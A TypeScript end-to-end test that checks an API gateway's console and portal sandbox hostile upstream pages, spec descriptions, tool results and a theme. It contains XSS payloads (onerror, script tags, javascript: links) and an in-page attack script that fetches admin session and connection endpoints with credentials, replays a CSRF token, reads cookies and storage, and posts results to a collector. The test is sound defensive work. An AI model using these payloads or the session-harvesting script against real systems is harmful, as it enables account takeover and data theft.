/** Hostile content in headless Chromium: documents of an upstream, descriptions, tool results and a theme read and call nothing of console, portal and connections. */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import { BROWSER } from '../fixtures/browser-page.ts'
import { type ConsoleBrowser, openConsoleBrowser } from '../fixtures/console-browser.ts'
import { type Deployment, deploy, post, read } from '../fixtures/deployment.ts'

const missing = BROWSER === undefined && process.env.REQUIRE_SERVICES !== '1'

/** Sent by a script that runs: what it could do. */
type Report = Readonly<Record<string, string>>

/** What the hostile page uses of its browser. */
declare const document: {
  title: string
  readonly cookie: string
  readonly body: { append(frame: object): void }
  createElement(name: string): {
    src: string
    readonly contentDocument: { readonly title: string } | null
    addEventListener(name: string, listener: (event: unknown) => void): void
  }
}
declare const location: { readonly origin: string }
declare const localStorage: object
declare const navigator: {
  readonly serviceWorker: {
    register(path: string, options: object): Promise<{ readonly scope: string }>
  }
}

/** Runs in the hostile page: it may use nothing of this file. */
async function attack(origins: readonly string[], reportTo: string) {
  document.title = 'ran'
  const report: Record<string, string> = {}
  const attempt = async (name: string, work: () => unknown) => {
    try {
      report[name] = String(await work())
    } catch {
      report[name] = 'refused'
    }
  }
  const send = async (url: string, init: RequestInit = {}) => {
    const response = await fetch(url, { credentials: 'include', ...init })
    return `${response.status} ${await response.text()}`
  }
  for (const origin of [location.origin, ...origins]) {
    for (const path of [
      '/console/session',
      '/console/api/gateway/admin/calls',
      '/connections/list',
      '/portal/session',
    ])
      await attempt(origin + path, () => send(origin + path))
    const csrf = /"csrf":"([^"]+)/.exec(report[`${origin}/console/session`] ?? '')?.[1] ?? 'guessed'
    const clear = { method: 'POST', headers: { 'x-csrf-token': csrf } }
    await attempt(`${origin} clear`, () => send(`${origin}/console/api/gateway/admin/cache/clear`, clear))
    await attempt(`${origin} frame`, async () => {
      const frame = document.createElement('iframe')
      frame.src = `${origin}/console/`
      const loaded = new Promise(resolve => frame.addEventListener('load', resolve))
      document.body.append(frame)
      await loaded
      return frame.contentDocument!.title
    })
  }
  await attempt('cookie', () => document.cookie)
  await attempt('storage', () => Object.keys(localStorage).join())
  for (const scope of ['/', '/console/', '/connections/'])
    await attempt(`worker of ${scope}`, async () => {
      const { scope: registered } = await navigator.serviceWorker.register('worker.js', { scope })
      return registered
    })
  await fetch(reportTo, { method: 'POST', mode: 'no-cors', body: JSON.stringify(report) })
}

const RUN = 'window.ran=true'
/** Runs where a page takes it for HTML, Markdown or an address. */
const HOSTILE = `<img src=x onerror="${RUN}"><script>${RUN}</script> [link](javascript:${RUN}) <a href="javascript:${RUN}">x</a>`

const DOCUMENT = {
  openapi: '3.1.0',
  info: { title: HOSTILE, version: '1.0.0', description: HOSTILE },
  externalDocs: { url: `javascript:${RUN}`, description: HOSTILE },
  paths: {
    '/notes': {
      get: {
        operationId: 'readNotes',
        summary: HOSTILE,
        description: HOSTILE,
        externalDocs: { url: `javascript:${RUN}` },
        parameters: [
          { name: 'about', in: 'query', description: HOSTILE, schema: { type: 'string', example: HOSTILE } },
        ],
        responses: { 200: { description: HOSTILE, content: { 'application/json': { example: HOSTILE } } } },
      },
    },
  },
}

describe.skipIf(missing)(
  `hostile content${missing ? ' (skipped: apt-get install chromium)' : ''}`,
  { timeout: 120_000 },
  () => {
    const folder = mkdtempSync(join(tmpdir(), 'hostile-pages-'))
    const reports: Report[] = []
    let upstream: Server
    let control: Deployment
    let gateway: Deployment
    let browser: ConsoleBrowser
    let apiUrl: string
    let pagesUrl: string
    let api: string

    beforeAll(async () => {
      upstream = createServer(async (request, response) => {
        const path = new URL(request.url!, 'http://up.example').pathname
        if (path === '/report') {
          let body = ''
          for await (const piece of request) body += piece
          reports.push(JSON.parse(body) as Report)
          return void response.end()
        }
        const [type, body] = documents(`http://${request.headers.host}/report`)[path] ?? ['text/plain', '']
        response.setHeader('service-worker-allowed', '/')
        response.setHeader('content-type', type)
        response.end(body)
      })
      await new Promise<void>(resolve => upstream.listen(0, '127.0.0.1', resolve))
      const theme = join(folder, 'theme.json')
      const drawing = `<svg xmlns="http://www.w3.org/2000/svg"><script>${RUN};document.documentElement.id='ran'</script></svg>`
      writeFileSync(join(folder, 'logo.svg'), drawing)
      writeFileSync(
        theme,
        JSON.stringify({
          title: `</title><script>${RUN}</script>`,
          lead: HOSTILE.slice(0, 300),
          logo: 'logo.svg',
        }),
      )
      ;[control, browser] = await Promise.all([deploy({ PORTAL_THEME: theme }), openConsoleBrowser()])
      const { api_url, auth_url } = control.running.addresses
      apiUrl = api_url
      gateway = await deploy({
        ROLE: 'gateway',
        EXAMPLE: 'false',
        CONTROL_PLANE_URL: api_url,
        AUTH_ISSUER: auth_url,
        GATEWAY_CLIENT_ID: 'gateway',
        GATEWAY_CLIENT_SECRET: 'gateway-secret',
        UNSANDBOXED_APIS: '/t/acme/excepted',
      })
      await gateway.running.ready
      pagesUrl = gateway.url.replace('//', '//pages.')
      api = await register('/evil', { name: HOSTILE.slice(0, 100), description: HOSTILE, spec: DOCUMENT })
      await register('/excepted', {})
    }, 180_000)
    afterAll(async () => {
      await browser?.close()
      await gateway?.stop()
      await control?.stop()
      upstream.closeAllConnections()
      await new Promise(resolve => upstream.close(resolve))
      rmSync(folder, { recursive: true, force: true })
    })

    /** Path → type and body. */
    function documents(reportTo: string): Readonly<Record<string, readonly [string, string]>> {
      const script = `(${attack})(${JSON.stringify([pagesUrl, apiUrl])}, ${JSON.stringify(reportTo)})`
      const inXml = `<script xmlns="http://www.w3.org/1999/xhtml"><![CDATA[${script}]]></script>`
      const html = `<!doctype html><title>page</title><body><script>${script}</script>`
      return {
        '/page': ['text/html', html],
        '/page.xml': ['application/xml', `<all>${inXml}</all>`],
        '/page.xhtml': [
          'application/xhtml+xml',
          `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>page</title></head><body>${inXml}</body></html>`,
        ],
        '/page.svg': ['image/svg+xml', `<svg xmlns="http://www.w3.org/2000/svg">${inXml}</svg>`],
        '/worker.js': ['text/javascript', ''],
        '/notes': ['application/json', JSON.stringify({ text: HOSTILE, url: `javascript:${RUN}` })],
      }
    }

    async function register(path: string, fields: object): Promise<string> {
      const token = await control.token('demo-admin')
      const created = await post(
        `${apiUrl}/v1/tenants/acme/apis`,
        {
          name: path,
          path,
          upstream_url: `http://127.0.0.1:${(upstream.address() as AddressInfo).port}`,
          auth_required: false,
          portal_visibility: true,
          visibility: 'public',
          ...fields,
        },
        token,
      )
      expect(created.status, created.text).toBe(201)
      await vi.waitUntil(
        async () => (await fetch(`${gateway.url}/t/acme${path}/notes`)).status === 200,
        10_000,
      )
      return created.json.id as string
    }

    /** An administrator who has signed in to the console of the gateway, and so to its connections. */
    async function victim() {
      const { page, close } = await browser.newPage(gateway.url)
      await page.goto(`${gateway.url}/console/calls`)
      await page.getByRole('link', { name: 'Sign in' }).click()
      await page.getByRole('button', { name: 'Ada Admin' }).click()
      await page.getByText('live', { exact: true }).waitFor()
      return { page, close }
    }

    it.each(['page', 'page.xml', 'page.xhtml', 'page.svg'])(
      'runs no script in the document %s of an upstream',
      async document => {
        const { page, close } = await victim()
        reports.length = 0
        const blocked = new Promise(resolve =>
          page.on('console', message => message.text().includes('sandbox') && resolve(message.text())),
        )
        await page.goto(`${gateway.url}/t/acme/evil/${document}`)
        expect(await Promise.race([blocked, reported().then(() => reports[0])])).toMatch(/Blocked script/)
        expect([await page.title(), reports]).not.toContain('ran')
        expect(reports).toEqual([])
        await close()
      },
    )

    it('gives nothing to a page whose API the operator excepts', async () => {
      const { page, close } = await victim()
      reports.length = 0
      await page.goto(`${gateway.url}/t/acme/excepted/page`)
      await reported()
      const { cookie, storage, ...attempts } = reports[0]!
      expect(Object.keys(attempts)).toHaveLength(21)
      // the portal is not on a gateway
      const done = Object.entries(attempts).filter(([, result]) => !/^refused$|^404 /.test(result))
      expect({ done, cookie, storage }).toEqual({ done: [], cookie: '', storage: '' })
      await close()
    })

    async function reported(): Promise<void> {
      await vi.waitUntil(() => reports.length > 0, 30_000)
    }

    it('shows hostile descriptions, documents and theme of the portal as text', async () => {
      const shown = await browser.newPage(apiUrl, {}, 'portal')
      const { page } = shown
      for (const path of ['', `apis/${api}`]) {
        await shown.open(path)
        await page.getByText('<img src=x', { exact: false }).first().waitFor()
        await page.waitForLoadState('networkidle')
        expect(await page.evaluate('window.ran')).toBeUndefined()
        expect(await page.locator('[href^="javascript:"], [src^="javascript:"], [onerror]').count()).toBe(0)
      }
      expect(shown.faults).toEqual([])
      await page.goto(`${apiUrl}/portal/logo`)
      expect(await page.evaluate('document.documentElement.id')).toBe('')
      await shown.close()
    })

    it('shows hostile tools and their results in the console as text', async () => {
      const token = await control.token('demo-admin')
      const { json } = await control.post('/mcp/v1/tools', {}, token)
      const tool = json.tools.find(({ name }: { name: string }) => name.includes('readNotes'))!.name as string
      const shown = await browser.newPage(apiUrl)
      await shown.signIn('demo-admin')
      const { page } = shown
      await shown.open(`playground?tool=${encodeURIComponent(tool)}`)
      await page.getByRole('button', { name: 'Call', exact: true }).click()
      await page.getByText(/^200 in /).waitFor()
      expect(await page.getByLabel('Body').textContent()).toContain('<img src=x')
      for (const path of ['tools', 'calls', 'catalogue/apis', `catalogue/apis/${api}`]) {
        await shown.open(path)
        await page.waitForLoadState('load')
        expect(await page.locator('[href^="javascript:"], [src^="javascript:"], [onerror]').count()).toBe(0)
        expect(await page.evaluate('window.ran')).toBeUndefined()
      }
      expect(shown.faults).toEqual([])
      await shown.close()
      expect(
        (await read(await fetch(`${gateway.url}/t/acme/evil/notes`))).headers.get('content-security-policy'),
      ).toBeNull()
    })
  },
)
